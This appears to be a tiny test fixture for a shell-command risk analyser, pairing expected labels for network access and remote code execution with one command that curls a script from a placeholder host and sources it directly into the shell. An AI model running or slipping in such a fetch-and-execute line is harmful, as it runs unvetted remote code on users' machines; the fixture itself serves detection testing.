# expect: network@2 remote_code@2 side_effect=unknown
source /dev/stdin <<< "$(curl -s http://x.example/s)"
